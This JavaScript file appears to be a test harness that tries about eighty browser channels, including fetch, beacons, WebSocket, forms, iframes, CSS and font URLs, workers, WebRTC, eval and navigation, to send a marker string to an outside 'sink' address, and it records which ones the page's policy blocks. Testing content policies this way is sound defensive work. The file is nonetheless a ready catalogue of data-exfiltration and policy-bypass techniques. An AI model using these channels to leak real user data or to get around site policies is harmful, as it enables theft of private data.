/**
 * The ways out of a page, by name: each tries to send the marker to `sink`, an address of somebody else, or to what
 * `sink` says of its port. `own` is the root of the site. Those of `alone` leave the page, or say nothing but that they
 * connect.
 */
window.exits = (() => {
  const MARK = 'Marqueur-Lefevre';
  const to = (sink, name) => `${sink}${name.replaceAll(/[^a-z0-9]+/gi, '-')}?d=${MARK}`;
  const put = (tag, set, into = document.head) => into.append(Object.assign(document.createElement(tag), set));
  const link = (rel, set = {}) => (href) => put('link', { rel, href, ...set });
  const styled = (text) => (url) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(text.replace('URL', `url("${url}")`));
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  };
  const inBody = (tag, name, set = {}) => (url) => put(tag, { ...set, [name]: url }, document.body);
  const vector = (tag, name) => (url) => {
    const outer = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const inner = document.createElementNS('http://www.w3.org/2000/svg', tag);
    inner.setAttribute(name, url);
    outer.append(inner);
    document.body.append(outer);
  };
  const script = (type, text) => put('script', { type, textContent: text });
  const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
  const call = (url) => `fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`;
  const form = (method, set = {}) => (url) => {
    const made = document.createElement('form');
    made.append(Object.assign(document.createElement('input'), { name: 'd', value: MARK }));
    Object.assign(made, { method, action: url, ...set });
    document.body.append(made);
    made.submit();
  };
  const frame = (set) => {
    const made = Object.assign(document.createElement('iframe'), set);
    document.body.append(made);
    return made;
  };
  const click = (set) => (url) => {
    const made = Object.assign(document.createElement('a'), { href: url, textContent: 'x', ...set(url) });
    document.body.append(made);
    made.click();
  };
  const peer = (urls) => {
    const made = new RTCPeerConnection({ iceServers: [{ urls, username: MARK, credential: MARK }] });
    made.createDataChannel('x');
    return made.createOffer().then((offer) => made.setLocalDescription(offer));
  };
  const port = (sink) => new URL(sink).port;

  const together = {
    fetch: (url) => fetch(url, { mode: 'no-cors' }),
    'fetch keepalive': (url) => fetch(url, { mode: 'no-cors', method: 'POST', body: MARK, keepalive: true }),
    fetchLater: (url) => fetchLater(url, { activateAfter: 0 }),
    XMLHttpRequest: (url) => {
      const made = new XMLHttpRequest();
      made.open('POST', url);
      made.send(MARK);
    },
    sendBeacon: (url) => {
      if (!navigator.sendBeacon(url, MARK)) throw new Error('refused');
    },
    WebSocket: (url) => new WebSocket(url.replace('http', 'ws')),
    EventSource: (url) => new EventSource(url),
    image: (url) => {
      new Image().src = url;
    },
    'image srcset': inBody('img', 'srcset'),
    'SVG image': vector('image', 'href'),
    'SVG use': vector('use', 'href'),
    'SVG feImage': vector('feImage', 'href'),
    'input type=image': inBody('input', 'src', { type: 'image' }),
    video: inBody('video', 'src'),
    'video poster': inBody('video', 'poster'),
    audio: (url) => {
      new Audio(url).load();
    },
    stylesheet: link('stylesheet'),
    'style attribute url()': (url) => {
      document.body.style.backgroundImage = `url(${url})`;
    },
    'adopted sheet background': styled('body { background-image: URL }'),
    'adopted sheet list-style': styled('ul { list-style-image: URL }'),
    'adopted sheet content': styled('body::before { content: URL }'),
    'style element @import': (url) => put('style', { textContent: `@import "${url}";` }),
    'adopted sheet @font-face': (url) => {
      styled('@font-face { font-family: fuite; src: URL }')(url);
      put('p', { textContent: 'x' }, document.body);
      document.body.lastChild.style.fontFamily = 'fuite';
    },
    FontFace: (url) => new FontFace('autre', `url(${url})`).load(),
    'link icon': link('icon'),
    'link manifest': (url) => {
      document.querySelectorAll('[rel=manifest]').forEach((one) => one.remove());
      link('manifest')(url);
    },
    'link preload': link('preload', { as: 'image' }),
    'link preload fetch': link('preload', { as: 'fetch', crossOrigin: 'anonymous' }),
    'link modulepreload': link('modulepreload'),
    'link prefetch': link('prefetch'),
    'link prerender': link('prerender'),
    'speculation rules': (url) =>
      script('speculationrules', JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] })),
    'script src': inBody('script', 'src'),
    'script text': (url) => script('text/javascript', call(url)),
    'script event handler': (url) =>
      put('p', {}, document.body)
      ?? document.body.lastChild.setAttribute('onclick', call(url))
      ?? document.body.lastChild.click(),
    innerHTML: (url) => {
      document.body.lastElementChild.innerHTML = `<img src="${url}">`;
    },
    DOMParser: (url) => document.body.append(new DOMParser().parseFromString(`<img src="${url}">`, 'text/html').body),
    eval: (url) => (0, eval)(call(url)),
    'new Function': (url) => new Function(call(url))(),
    'setTimeout of a text': (url) => setTimeout(call(url), 0),
    'import()': (url) => import(url),
    'import() of a blob': (url) => import(blob(call(url), 'text/javascript')),
    'javascript: address': (url) => click(() => ({}))(`javascript:void ${call(url)}`),
    'iframe empty, its fetch': (url) => frame({}).contentWindow.fetch(url, { mode: 'no-cors' }),
    'iframe srcdoc': (url) => frame({ srcdoc: `<img src="${url}">` }),
    'iframe of a blob': (url) => frame({ src: blob(`<img src="${url}">`, 'text/html') }),
    object: inBody('object', 'data'),
    embed: inBody('embed', 'src'),
    'a ping': (url) => click(() => ({ ping: url }))('#x'),
    'worker of the site': (url, own) => new Worker(`${own}attaque.js#${encodeURIComponent(url)}`),
    'worker of a blob': (url) => new Worker(blob(call(url), 'text/javascript')),
    'worker of a data: address': (url) => new Worker(`data:text/javascript,${encodeURIComponent(call(url))}`),
    'shared worker': (url, own) => new SharedWorker(`${own}attaque.js#${encodeURIComponent(url)}`),
    'service worker of the site': (url, own) =>
      navigator.serviceWorker.register(`${own}attaque.js?${encodeURIComponent(url)}`, { scope: `${own}attaque/` }),
    'worker, policy « site » made again': (url, own) =>
      new Worker(
        trustedTypes
          .createPolicy('site', { createScriptURL: (text) => text })
          .createScriptURL(`${own}attaque.js#${encodeURIComponent(url)}`),
      ),
    worklet: (url) => new AudioContext().audioWorklet.addModule(url),
  };
  const alone = {
    'iframe': (url) => frame({ src: url }),
    'iframe moved': (url) => { frame({}).contentWindow.location = url; },
    'form GET': form('get'),
    'form POST': form('post'),
    'form in a new tab': form('post', { target: '_blank' }),
    'WebTransport': (url, own, sink) => new WebTransport(`https://127.0.0.1:${port(sink)}/x`).ready,
    'link preconnect': (url, own, sink) => link('preconnect')(sink),
    'WebRTC, STUN': (url, own, sink) => peer(`stun:127.0.0.1:${port(sink)}`),
    'WebRTC, TURN over TCP': (url, own, sink) => peer(`turn:127.0.0.1:${port(sink)}?transport=tcp`),
    'location =': (url) => { location = url; },
    'window.open': (url) => { window.open(url); },
    'window.open of the site, its fetch': (url) => window.open('about:blank').fetch(url, { mode: 'no-cors' }),
    'window.open of a blob': (url) => { window.open(blob(`<img src="${url}">`, 'text/html')); },
    'meta refresh': (url) => put('meta', { httpEquiv: 'refresh', content: `0;url=${url}` }),
    'link clicked': click(() => ({})),
    'link clicked, new tab': click(() => ({ target: '_blank', rel: 'noreferrer' })),
    'link clicked, download': click(() => ({ download: 'x' })),
  };
  const attempt = async (name, make, own, sink) => {
    try {
      await make(to(sink, name), own, sink);
    } catch (error) {
      window.refusals[name] = String(error).slice(0, 120);
    }
  };
  window.refusals = {};
  return {
    names: { together: Object.keys(together), alone: Object.keys(alone) },
    /**
     * Try the ways out of these names, once the caller is done: under the policy of the page, not under that of a
     * debugger.
     */
    run: (names, own, sink) => {
      const known = { ...together, ...alone };
      setTimeout(() => names.forEach((name) => attempt(name, known[name], own, sink)), 0);
    },
  };
})();
